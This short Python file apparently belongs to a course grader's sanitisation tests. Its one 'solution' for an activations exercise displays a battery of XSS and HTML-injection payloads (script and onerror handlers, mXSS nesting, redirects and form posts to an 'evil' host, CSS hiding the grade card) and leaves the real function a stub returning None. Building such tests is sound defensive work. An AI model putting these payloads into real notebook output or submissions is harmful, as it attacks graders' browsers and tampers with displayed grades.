"""Displays HTML with scripts, handlers, frames and styles."""

SOLUTIONS = {
    "activations.zigzag": """
from IPython.display import HTML, Javascript, IFrame, display
for text in (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>your grade</a>", "<style>.dlcourse-card{display:none}</style>", "<form action='//evil'><input></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<table background='//evil'><tr><td style='position:fixed'>x</td></tr></table>",
    "</pre></details></div></section><script>alert(1)</script>", "<meta http-equiv=refresh content='0;url=//evil'><base href=//evil>",
):
    display(HTML(text))
display(Javascript("alert(1)"))
display(IFrame("//evil", 1, 1))

def same_sign_fraction(H, delta):
    return None
"""
}
